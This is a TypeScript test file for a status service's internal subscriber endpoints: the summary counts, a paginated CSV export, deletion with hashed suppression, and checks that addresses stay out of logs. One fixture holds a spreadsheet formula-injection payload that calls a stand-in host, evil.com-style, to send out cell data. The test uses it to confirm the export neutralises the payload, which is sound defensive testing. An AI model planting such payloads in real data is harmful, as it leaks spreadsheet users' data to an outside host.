import { createExecutionContext, waitOnExecutionContext } from "cloudflare:test";
import { env } from "cloudflare:workers";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { createApp } from "../../../src/app";
import { runBatch } from "../../../src/db/batch-plan";
import { deleteSelfServiceSubscriberPlan } from "../../../src/db/notifications/self-service-removal";
import { sha256Hex } from "../../../src/lib/subscription-tokens";
import { INTERNAL_PATHS, idPath, OPENAPI_PATH } from "../../../src/paths";
import { answers, api, insertDelivery } from "../notifications/api-support";
import { countingD1 } from "../support/counting-d1";
import { BASE_URL, CURRENT_TOKEN, call, expectProblem } from "../support/http";
import { schemaProblems } from "../support/json-schema";
import { clearTables } from "../support/tables";

// The operators' side of self-service subscriptions: the counts, the CSV export and removing a
// subscriber (with its hashed suppression). Rows are inserted directly: the public subscribe route is
// another part's. No address may reach a log line or an audit row, and the export needs the token.

const HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"open")@x.com';
const ADDRESSES = {
	ana: "ana@example.org",
	bo: "bo.tester+status@example.net",
	hostile: HOSTILE,
	comma: '"Smith, J"@example.com',
	hook: "https://hooks.receiver.example/status?key=self-service-hook-key",
} as const;

const logged: string[] = [];
beforeEach(async () => {
	await clearTables();
	await env.DB.batch([
		env.DB.prepare("DELETE FROM subscription_requests"),
		env.DB.prepare("DELETE FROM subscription_suppressions"),
	]);
	answers.length = 0;
	logged.length = 0;
	for (const method of ["log", "warn", "error", "info", "debug"] as const) {
		vi.spyOn(console, method).mockImplementation((...args: unknown[]) => {
			logged.push(args.map(String).join(" "));
		});
	}
});
afterEach(async () => {
	// No address in a log line or an audit row, whatever the test did.
	const audit = await env.DB.prepare("SELECT * FROM notification_audit_log").all();
	const everything = [...logged, JSON.stringify(audit.results)].join("\n");
	for (const address of Object.values(ADDRESSES)) expect(everything).not.toContain(address);
	expect(everything).not.toContain("example.org");
	vi.restoreAllMocks();
});

const idOf = (n: number) => `sub_${String(n).padStart(32, "0")}`;
const T = "2026-12-01T10:00:00.000Z";

async function insertSelfService(row: {
	n: number;
	kind: "email" | "webhook";
	address: string;
	surfaceIds?: string[] | null;
	enabled?: boolean;
}): Promise<string> {
	const id = idOf(row.n);
	const url = row.kind === "email" ? `mailto:${row.address}` : row.address;
	await env.DB.prepare(
		`INSERT INTO notification_subscribers (id, kind, name, url, events, surface_ids, enabled, secret, origin,
			manage_token_hash, created_at, updated_at)
		VALUES (?, ?, 'Self-service', ?, '["incident.created","incident.resolved"]', ?, ?, ?, 'self_service', ?, ?, ?)`,
	)
		.bind(
			id,
			row.kind,
			url,
			row.surfaceIds ? JSON.stringify(row.surfaceIds) : null,
			row.enabled === false ? 0 : 1,
			row.kind === "webhook" ? "whsec_c2VsZi1zZXJ2aWNlLXNlY3JldC1mb3ItdGVzdHM=" : null,
			await sha256Hex(`manage:${id}`),
			T,
			T,
		)
		.run();
	return id;
}

async function insertOperator(n: number, kind: "slack" | "webhook", enabled = true): Promise<string> {
	const id = idOf(n);
	await env.DB.prepare(
		`INSERT INTO notification_subscribers (id, kind, name, url, events, surface_ids, enabled, secret, created_at, updated_at)
		VALUES (?, ?, 'Ops', ?, '["incident.created"]', NULL, ?, ?, ?, ?)`,
	)
		.bind(
			id,
			kind,
			kind === "slack" ? "https://hooks.slack.com/services/T1/B1/x" : "https://ops.receiver.example/in",
			enabled ? 1 : 0,
			kind === "webhook" ? "whsec_b3BlcmF0b3Itc2VjcmV0LWZvci10ZXN0cw==" : null,
			T,
			T,
		)
		.run();
	return id;
}

async function insertRequest(kind: "email" | "webhook", address: string, expiresAt: string): Promise<void> {
	await env.DB.prepare(
		`INSERT INTO subscription_requests (id, kind, address, address_hash, surface_ids, token_hash, secret, expires_at, created_at)
		VALUES (?, ?, ?, ?, NULL, ?, ?, ?, ?)`,
	)
		.bind(
			`sreq_${crypto.randomUUID().replaceAll("-", "")}`,
			kind,
			address,
			await sha256Hex(address),
			await sha256Hex(crypto.randomUUID()),
			kind === "webhook" ? "whsec_cmVxdWVzdC1zZWNyZXQtZm9yLXRlc3RzLTAwMA==" : null,
			expiresAt,
			T,
		)
		.run();
}

const FUTURE = "2099-01-01T00:00:00.000Z";
const PAST = "2020-01-01T00:00:00.000Z";

/** The tables removing a subscriber touches, to compare before and after. */
async function subscriptionTables() {
	const [subscribers, deliveries, events, audit, requests, suppressions] = await env.DB.batch<Record<string, unknown>>([
		env.DB.prepare("SELECT * FROM notification_subscribers ORDER BY id"),
		env.DB.prepare("SELECT * FROM notification_deliveries ORDER BY id"),
		env.DB.prepare("SELECT * FROM notification_events ORDER BY id"),
		env.DB.prepare("SELECT * FROM notification_audit_log ORDER BY id"),
		env.DB.prepare("SELECT * FROM subscription_requests ORDER BY id"),
		env.DB.prepare("SELECT * FROM subscription_suppressions ORDER BY address_hash"),
	]);
	return {
		subscribers: subscribers?.results ?? [],
		deliveries: deliveries?.results ?? [],
		events: events?.results ?? [],
		audit: audit?.results ?? [],
		requests: requests?.results ?? [],
		suppressions: suppressions?.results ?? [],
	};
}

/** RFC 4180 records, as a spreadsheet reads them. */
function parseCsv(text: string): string[][] {
	const records: string[][] = [];
	let record: string[] = [];
	let cell = "";
	let quoted = false;
	for (let at = 0; at < text.length; at += 1) {
		const char = text[at];
		if (quoted) {
			if (char === '"' && text[at + 1] === '"') {
				cell += '"';
				at += 1;
			} else if (char === '"') quoted = false;
			else cell += char;
		} else if (char === '"') quoted = true;
		else if (char === ",") {
			record.push(cell);
			cell = "";
		} else if (char === "\r" && text[at + 1] === "\n") {
			record.push(cell);
			records.push(record);
			record = [];
			cell = "";
			at += 1;
		} else cell += char;
	}
	if (cell !== "" || record.length > 0)
		throw new Error(`the CSV does not end with CRLF: ${JSON.stringify(text.slice(-40))}`);
	return records;
}

async function seedMix(): Promise<void> {
	await insertOperator(1, "slack");
	await insertOperator(2, "webhook", false);
	await insertSelfService({ n: 10, kind: "email", address: ADDRESSES.ana, surfaceIds: ["login", "charts"] });
	await insertSelfService({ n: 11, kind: "email", address: ADDRESSES.hostile });
	await insertSelfService({ n: 12, kind: "email", address: ADDRESSES.comma, enabled: false });
	await insertSelfService({ n: 13, kind: "webhook", address: ADDRESSES.hook });
	await insertRequest("email", "pending-1@example.com", FUTURE);
	await insertRequest("email", "pending-2@example.com", FUTURE);
	await insertRequest("email", "expired-1@example.com", PAST);
	await insertRequest("webhook", "https://pending.receiver.example/hook", FUTURE);
}

describe("GET /api/internal/status/subscriptions/summary", () => {
	it("counts subscribers by origin, kind and state, pending requests by kind with the expired apart, and suppressed addresses", async () => {
		await seedMix();
		await env.DB.prepare("INSERT INTO subscription_suppressions (address_hash, created_at) VALUES (?, ?)")
			.bind(await sha256Hex("gone@example.com"), T)
			.run();
		const answer = await api("GET", INTERNAL_PATHS.subscriptionsSummary);
		expect(answer.status, answer.body).toBe(200);
		expect(answer.response.headers.get("Cache-Control")).toBe("no-store");
		const zero = { enabled: 0, disabled: 0 };
		expect(answer.json()).toEqual({
			subscribers: {
				total: 6,
				enabled: 4,
				disabled: 2,
				by_origin: {
					operator: {
						webhook: { enabled: 0, disabled: 1 },
						statuspage: zero,
						slack: { enabled: 1, disabled: 0 },
						discord: zero,
						teams: zero,
					},
					self_service: { email: { enabled: 2, disabled: 1 }, webhook: { enabled: 1, disabled: 0 } },
				},
			},
			requests: {
				pending: 3,
				expired: 1,
				by_kind: { email: { pending: 2, expired: 1 }, webhook: { pending: 1, expired: 0 } },
			},
			suppressed_addresses: 1,
			generated_at: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
		});
		for (const address of Object.values(ADDRESSES)) expect(answer.body).not.toContain(address);
	});

	it("answers every count as 0 on an empty database", async () => {
		const answer = await api("GET", INTERNAL_PATHS.subscriptionsSummary);
		expect(answer.json()).toMatchObject({
			subscribers: {
				total: 0,
				enabled: 0,
				disabled: 0,
				by_origin: { self_service: { email: { enabled: 0, disabled: 0 } } },
			},
			requests: { pending: 0, expired: 0, by_kind: { webhook: { pending: 0, expired: 0 } } },
			suppressed_addresses: 0,
		});
	});

	it("reads D1 once", async () => {
		await seedMix();
		const probe = countingD1(env.DB);
		const ctx = createExecutionContext();
		const response = await createApp().fetch(
			new Request(`${BASE_URL}${INTERNAL_PATHS.subscriptionsSummary}`, {
				headers: { "X-Internal-Status-Token": CURRENT_TOKEN },
			}),
			{ ...env, DB: probe.db },
			ctx,
		);
		await waitOnExecutionContext(ctx);
		expect(response.status).toBe(200);
		expect(probe.roundTrips).toBe(1);
	});

	it("needs the internal token", async () => {
		await expectProblem(await call(INTERNAL_PATHS.subscriptionsSummary), 401, "unauthorized");
	});
});

describe("GET /api/internal/status/subscriptions/export.csv", () => {
	it("lists the self-service subscribers only, in id order, as CSV a spreadsheet opens as data", async () => {
		await seedMix();
		const answer = await api("GET", INTERNAL_PATHS.subscriptionsExport);
		expect(answer.status, answer.body).toBe(200);
		const headers = answer.response.headers;
		expect(headers.get("Content-Type")).toBe("text/csv; charset=utf-8; header=present");
		expect(headers.get("Content-Disposition")).toBe('attachment; filename="self-service-subscribers.csv"');
		expect(headers.get("Cache-Control")).toBe("no-store");
		expect(headers.get("Link")).toBeNull();
		expect(parseCsv(answer.body)).toEqual([
			["id", "kind", "address", "surfaces", "enabled", "created_at"],
			[idOf(10), "email", ADDRESSES.ana, "login charts", "true", T],
			[idOf(11), "email", `'${HOSTILE}`, "all", "true", T],
			[idOf(12), "email", ADDRESSES.comma, "all", "false", T],
			[idOf(13), "webhook", ADDRESSES.hook, "all", "true", T],
		]);
		// As written: the hostile cell starts with ' inside its quotes, so no spreadsheet runs it.
		expect(answer.body).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""open"")@x.com"`);
		expect(answer.body.split("\r\n")).toHaveLength(6);
		expect(answer.body).not.toContain("hooks.slack.com");
		expect(logged.join("\n")).toContain('"event":"subscriptions_exported","rows":4,"more":false');
	});

	it("walks every subscriber exactly once, a page at a time, following Link rel=next", async () => {
		for (let n = 100; n < 107; n += 1) {
			await insertSelfService({ n, kind: "email", address: `walker-${n}@example.com` });
		}
		await insertOperator(103_000, "slack");
		const seen: string[] = [];
		let path: string | null = `${INTERNAL_PATHS.subscriptionsExport}?limit=3`;
		let pages = 0;
		while (path !== null) {
			const answer = await api("GET", path);
			expect(answer.status, answer.body).toBe(200);
			const [header, ...rows] = parseCsv(answer.body);
			expect(header?.[0]).toBe("id");
			seen.push(...rows.map((row) => row[0] ?? ""));
			pages += 1;
			const link = answer.response.headers.get("Link");
			path = link === null ? null : (/^<([^>]+)>; rel="next"$/.exec(link)?.[1] ?? "no link");
			if (link !== null)
				expect(path).toMatch(/^\/api\/internal\/status\/subscriptions\/export\.csv\?after=sub_\d+&limit=3$/);
		}
		expect(pages).toBe(3);
		expect(seen).toEqual([100, 101, 102, 103, 104, 105, 106].map(idOf));
	});

	it("refuses a limit out of 1-5000 or an unknown parameter with 400 invalid_query", async () => {
		for (const query of ["limit=0", "limit=5001", "limit=ten", "after=", "page=2"]) {
			const answer = await api("GET", `${INTERNAL_PATHS.subscriptionsExport}?${query}`);
			await expectProblem(answer.response, 400, "invalid_query");
		}
		expect((await api("GET", `${INTERNAL_PATHS.subscriptionsExport}?limit=5000`)).status).toBe(200);
	});

	it("needs the internal token, and answers a wrong one without an address", async () => {
		await seedMix();
		for (const headers of [{}, { "X-Internal-Status-Token": "wrong" }] as Record<string, string>[]) {
			const response = await call(INTERNAL_PATHS.subscriptionsExport, { headers });
			const text = await response.clone().text();
			await expectProblem(response, 401, "unauthorized");
			for (const address of Object.values(ADDRESSES)) expect(text).not.toContain(address);
		}
	});
});

describe("DELETE /api/internal/status/subscribers/{id} of a self-service subscriber", () => {
	it("removes it and its deliveries, writes its address's hash as suppressed, drops its pending requests: one batch, audited without the address", async () => {
		await seedMix();
		const id = idOf(10);
		await insertDelivery({ id: "msg_gone1", subscriberId: id, status: "delivered", createdAt: T });
		await insertDelivery({ id: "msg_gone2", subscriberId: id, status: "failed", createdAt: T });
		await insertDelivery({ id: "msg_kept", subscriberId: idOf(1), status: "delivered", createdAt: T });
		await insertRequest("email", ADDRESSES.ana, FUTURE);
		const before = await subscriptionTables();

		const answer = await api("DELETE", idPath(INTERNAL_PATHS.subscriber, id));
		expect(answer.status, answer.body).toBe(204);

		const after = await subscriptionTables();
		expect(after.subscribers.map((row) => row.id)).toEqual(
			before.subscribers.map((row) => row.id).filter((x) => x !== id),
		);
		expect(after.deliveries.map((row) => row.id)).toEqual(["msg_kept"]);
		expect(after.suppressions).toEqual([
			{ address_hash: await sha256Hex(ADDRESSES.ana), created_at: expect.stringMatching(/^\d{4}-/) },
		]);
		// The hash is of the address itself, not of its mailto: URL.
		expect(after.suppressions[0]?.address_hash).not.toBe(await sha256Hex(`mailto:${ADDRESSES.ana}`));
		expect(after.requests).toHaveLength(before.requests.length - 1);
		expect(after.requests.map((row) => row.address)).not.toContain(ADDRESSES.ana);
		expect(after.audit.slice(before.audit.length)).toEqual([
			expect.objectContaining({
				subscriber_id: id,
				actor: "ops",
				action: "deleted",
				detail: "self-service subscriber removed with all its deliveries; its address suppressed",
			}),
		]);
		await expectProblem((await api("DELETE", idPath(INTERNAL_PATHS.subscriber, id))).response, 404, "not_found");
	});

	it("suppresses a webhook subscriber by its URL's hash, and renews an address suppressed before", async () => {
		const id = await insertSelfService({ n: 20, kind: "webhook", address: ADDRESSES.hook });
		const hash = await sha256Hex(ADDRESSES.hook);
		await env.DB.prepare("INSERT INTO subscription_suppressions (address_hash, created_at) VALUES (?, ?)")
			.bind(hash, "2025-01-01T00:00:00.000Z")
			.run();
		expect((await api("DELETE", idPath(INTERNAL_PATHS.subscriber, id))).status).toBe(204);
		const { suppressions } = await subscriptionTables();
		expect(suppressions).toHaveLength(1);
		expect(suppressions[0]?.address_hash).toBe(hash);
		expect(String(suppressions[0]?.created_at) > "2026-01-01").toBe(true);
	});

	it("writes no suppression for an operator's subscriber", async () => {
		const id = await insertOperator(30, "webhook");
		expect((await api("DELETE", idPath(INTERNAL_PATHS.subscriber, id))).status).toBe(204);
		const after = await subscriptionTables();
		expect(after.subscribers).toEqual([]);
		expect(after.suppressions).toEqual([]);
		expect(after.audit).toEqual([expect.objectContaining({ detail: "removed with all its deliveries" })]);
	});

	it("writes nothing when its batch fails: 503, every table as it was", async () => {
		await seedMix();
		const id = idOf(11);
		await insertDelivery({ id: "msg_stays", subscriberId: id, status: "failed", createdAt: T });
		const before = await subscriptionTables();
		const probe = countingD1(env.DB);
		probe.failNextBatches = 1;
		const ctx = createExecutionContext();
		const response = await createApp().fetch(
			new Request(`${BASE_URL}${idPath(INTERNAL_PATHS.subscriber, id)}`, {
				method: "DELETE",
				headers: { "X-Internal-Status-Token": CURRENT_TOKEN },
			}),
			{ ...env, DB: probe.db },
			ctx,
		);
		await waitOnExecutionContext(ctx);
		await expectProblem(response, 503, "storage_unavailable");
		expect(await subscriptionTables()).toEqual(before);
	});

	it("removes nothing when the row is no longer the one read (its URL changed in between)", async () => {
		const id = await insertSelfService({ n: 40, kind: "email", address: ADDRESSES.bo });
		const before = await subscriptionTables();
		const [deleted] = await runBatch(
			env.DB,
			deleteSelfServiceSubscriberPlan(
				env.DB,
				id,
				{ seenUrl: "mailto:someone-else@example.com", addressHash: await sha256Hex("someone-else@example.com") },
				{ actor: "ops", detail: "x", nowIso: new Date().toISOString() },
			),
		);
		expect(deleted).toBe(false);
		expect(await subscriptionTables()).toEqual(before);
	});
});

describe("the OpenAPI document", () => {
	it("documents both reports behind the internal token, the summary's answer matching its schema and the export as text/csv", async () => {
		await seedMix();
		const doc = await (await call(OPENAPI_PATH)).json<{
			paths: Record<
				string,
				{ get?: { security?: unknown; responses: Record<string, { content?: Record<string, { schema: unknown }> }> } }
			>;
		}>();
		const summary = doc.paths[INTERNAL_PATHS.subscriptionsSummary]?.get;
		const exported = doc.paths[INTERNAL_PATHS.subscriptionsExport]?.get;
		expect(summary?.security).toEqual([{ InternalToken: [] }]);
		expect(exported?.security).toEqual([{ InternalToken: [] }]);
		expect(Object.keys(exported?.responses["200"]?.content ?? {})).toEqual(["text/csv"]);
		const answer = await api("GET", INTERNAL_PATHS.subscriptionsSummary);
		const schema = summary?.responses["200"]?.content?.["application/json"]?.schema;
		expect(schemaProblems(answer.json(), schema, doc, { undeclared: true })).toEqual([]);
	});
});
